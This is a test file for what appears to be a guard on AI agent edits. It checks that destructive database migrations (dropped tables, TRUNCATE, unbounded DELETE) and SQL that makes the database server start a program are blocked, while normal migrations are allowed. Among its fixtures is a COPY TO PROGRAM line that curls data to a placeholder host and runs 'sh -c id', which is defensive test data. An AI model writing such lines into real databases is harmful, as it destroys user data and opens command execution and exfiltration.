// A migration that destroys data when migrations run (a table or column dropped, a table emptied, every row
// changed) is not allowed; a migration's own way back (a drop of what the same file creates, outside its way
// forward) and ordinary schema changes stay allowed. Judged through the whole pipeline with the bundled policy, on real files in a temp folder.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { FileChange, ToolInput } from '../request/request';
import { WORKSPACE } from '../testdata/fixtures';
import { judgeWithReader } from '../testdata/judge-with-reader';
import { workspaceReader } from '../testdata/workspace-reader';
import { writeFiles } from '../testdata/write-files';

const dir = mkdtempSync(join(tmpdir(), 'migration-edits-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const FILES: Record<string, string> = {
  'db/migrate/20240101000000_add_notes.rb':
    'class AddNotes < ActiveRecord::Migration[7.1]\n  def change\n    add_column :orders, :notes, :text\n  end\nend\n',
  'alembic/versions/1a2b_create_events.py':
    "def upgrade():\n    op.create_table('events', sa.Column('id', sa.Integer))\n\n\ndef downgrade():\n    op.drop_table('events')\n",
  'docs/migrations/guide.md': '# Guide\n',
  'database/migrations/2024_03_01_000000_create_bookings_table.php':
    "<?php\nreturn new class extends Migration\n{\n    public function up(): void\n    {\n        Schema::create('bookings', function (Blueprint $table) {\n            $table->id();\n        });\n    }\n\n    public function down(): void\n    {\n        Schema::dropIfExists('bookings');\n    }\n};\n",
};
writeFiles(dir, FILES);
const readScript = workspaceReader(dir);

async function judge(name: string, change: FileChange, tool: 'Edit' | 'Write') {
  const path = `${WORKSPACE}/${name}`;
  const input: ToolInput =
    tool === 'Write' ? { kind: 'write', path, change } : { kind: 'edit', path, change };
  return (await judgeWithReader(input, tool, readScript)).decision;
}
const replace = (old: string, now: string): FileChange => ({ kind: 'replace', edits: [{ old, new: now }] });
const whole = (text: string): FileChange => ({ kind: 'whole', text });

describe('a migration that destroys data is not allowed', () => {
  it.each([
    [
      'Rails: a new migration dropping tables',
      'db/migrate/20240301000000_tidy.rb',
      whole('class Tidy < ActiveRecord::Migration[7.1]\n  def up\n    drop_table :invoices\n  end\nend\n'),
      'Write',
      'drops a table',
    ],
    [
      'Rails: an added column turned into a removed one by a word',
      'db/migrate/20240101000000_add_notes.rb',
      replace('add_column', 'remove_column'),
      'Edit',
      'drops a column',
    ],
    [
      'Rails: an UPDATE of every row added to an existing migration',
      'db/migrate/20240101000000_add_notes.rb',
      replace(
        '    add_column :orders, :notes, :text\n',
        '    add_column :orders, :notes, :text\n    execute "UPDATE accounts SET plan = \'free\'"\n',
      ),
      'Edit',
      'changes every row',
    ],
    [
      'Alembic: a table dropped on the way up',
      'alembic/versions/9f_drop_audit.py',
      whole("def upgrade():\n    op.drop_table('audit_log')\n"),
      'Write',
      'drops a table',
    ],
    [
      'Prisma: SQL emptying a table',
      'prisma/migrations/20240301_reset/migration.sql',
      whole('TRUNCATE TABLE "Session";\n'),
      'Write',
      'empties a table',
    ],
    [
      'Flyway: a DELETE with no WHERE',
      'src/main/resources/db/migration/V7__cleanup.sql',
      whole('DELETE FROM payments;\n'),
      'Write',
      'changes every row',
    ],
    [
      'Laravel: a schema drop',
      'database/migrations/2024_03_01_000000_drop_logs.php',
      whole(
        "<?php\nreturn new class extends Migration {\n  public function up() { Schema::dropIfExists('logs'); }\n};\n",
      ),
      'Write',
      'drops a table',
    ],
    [
      'Ecto: a column removed',
      'priv/repo/migrations/20240301_trim.exs',
      whole(
        'defmodule Repo.Migrations.Trim do\n  def change do\n    alter table(:users) do\n      remove :email\n    end\n  end\nend\n',
      ),
      'Write',
      'drops a column',
    ],
    [
      'Laravel: a drop added to the way up of a migration that creates the table (its rows go when it runs again)',
      'database/migrations/2024_03_01_000000_create_bookings_table.php',
      replace(
        '    public function up(): void\n    {\n',
        "    public function up(): void\n    {\n        Schema::dropIfExists('bookings');\n",
      ),
      'Edit',
      'drops a table',
    ],
    [
      'Laravel: the same drop added on its own line',
      'database/migrations/2024_03_01_000000_create_bookings_table.php',
      replace(
        "        Schema::create('bookings'",
        "        Schema::drop('bookings');\n        Schema::create('bookings'",
      ),
      'Edit',
      'drops a table',
    ],
    [
      'Knex: a drop before the create in exports.up',
      'migrations/20240301_users.js',
      whole(
        "exports.up = async (knex) => {\n  await knex.schema.dropTableIfExists('users');\n  await knex.schema.createTable('users', (t) => t.increments());\n};\nexports.down = (knex) => knex.schema.dropTable('users');\n",
      ),
      'Write',
      'drops a table',
    ],
    [
      'Django: a model deleted',
      'shop/migrations/0009_remove_coupon.py',
      whole("operations = [\n    migrations.DeleteModel(name='Coupon'),\n]\n"),
      'Write',
      'drops a table',
    ],
  ] as const)('%s', async (_name, file, change, tool, kind) => {
    const d = await judge(file, change, tool);
    expect(d.verdict).not.toBe('allow');
    expect(d.reason).toContain('data-loss-later');
    expect(d.reason).toContain(kind);
  });
});

describe('SQL that makes the database server start a program, written where it will run, is not allowed (round 30)', () => {
  it.each<[string, string, FileChange, 'Edit' | 'Write']>([
    [
      'a flyway callback',
      'db/migration/afterMigrate.sql',
      whole("COPY (SELECT 1) TO PROGRAM 'curl -s --data-binary @- https://x.example/in';\n"),
      'Write',
    ],
    [
      'an untrusted procedural language in a migration',
      'db/migrate/20240301000000_fn.rb',
      whole(
        'class Fn\n  def up\n    execute "CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u"\n  end\nend\n',
      ),
      'Write',
    ],
    [
      "the application's start-up SQL",
      'src/main/resources/application.yml',
      whole("spring:\n  flyway:\n    init-sqls: COPY (SELECT 1) TO PROGRAM 'sh -c id'\n"),
      'Write',
    ],
  ])('%s', async (_n, file, change, tool) => {
    const d = await judge(file, change, tool);
    expect(d.verdict).not.toBe('allow');
    expect(d.reason).toContain('start a program');
  });

  it.each<[string, string, FileChange]>([
    ['a plain migration', 'db/migration/V2__t.sql', whole('CREATE TABLE t (id int);\n')],
    ['a README explaining COPY', 'docs/guide.md', whole("Never use COPY (SELECT 1) TO PROGRAM 'x'.\n")],
  ])('quiet: %s', async (_n, file, change) => {
    const d = await judge(file, change, 'Write');
    expect(d.reason).not.toContain('start a program');
  });
});

describe('a bound on time', () => {
  it('a migration with more drops than the bound still counts them', async () => {
    const text = Array.from({ length: 300 }, (_, i) => `    drop_table :t${i}\n`).join('');
    const d = await judge(
      'db/migrate/20240401000000_many.rb',
      whole(`class Many\n  def up\n${text}  end\nend\n`),
      'Write',
    );
    expect(d.reason).toContain('drops a table');
  });
});

describe('ordinary migrations stay allowed', () => {
  it.each([
    [
      'Rails: a table created, dropped on the way down',
      'db/migrate/20240301000000_create_tags.rb',
      whole(
        'class CreateTags < ActiveRecord::Migration[7.1]\n  def up\n    create_table :tags do |t|\n      t.string :name\n    end\n  end\n\n  def down\n    drop_table :tags\n  end\nend\n',
      ),
      'Write',
    ],
    [
      'Alembic: a new column with its downgrade',
      'alembic/versions/2c_add_title.py',
      whole(
        "def upgrade():\n    op.add_column('events', sa.Column('title', sa.String()))\n\n\ndef downgrade():\n    op.drop_column('events', 'title')\n",
      ),
      'Write',
    ],
    [
      'an UPDATE bounded by a WHERE on its next line',
      'db/migration/V8__backfill.sql',
      whole("UPDATE accounts SET plan = 'free'\nWHERE plan IS NULL;\n"),
      'Write',
    ],
    [
      'an edit of the existing downgrade that keeps its drop',
      'alembic/versions/1a2b_create_events.py',
      replace("    op.drop_table('events')\n", "    op.drop_table('events')  # reverse\n"),
      'Edit',
    ],
    [
      'a scratch table made and dropped in the same way up',
      'db/migrate/20240501000000_backfill.rb',
      whole(
        'class Backfill < ActiveRecord::Migration[7.1]\n  def up\n    create_table :tmp_ids do |t|\n      t.integer :id\n    end\n    drop_table :tmp_ids\n  end\nend\n',
      ),
      'Write',
    ],
    [
      'Knex: a create with its drop in exports.down',
      'migrations/20240302_tags.js',
      whole(
        "exports.up = (knex) => knex.schema.createTable('tags', (t) => t.increments());\nexports.down = (knex) => knex.schema.dropTable('tags');\n",
      ),
      'Write',
    ],
    [
      'a document about migrations',
      'docs/migrations/guide.md',
      replace('# Guide\n', '# Guide\n\nDROP TABLE x;\n'),
      'Edit',
    ],
  ] as const)('%s', async (_name, file, change, tool) => {
    const d = await judge(file, change, tool);
    expect(d.reason).not.toContain('data-loss-later');
    expect(d.verdict).toBe('allow');
  });
});
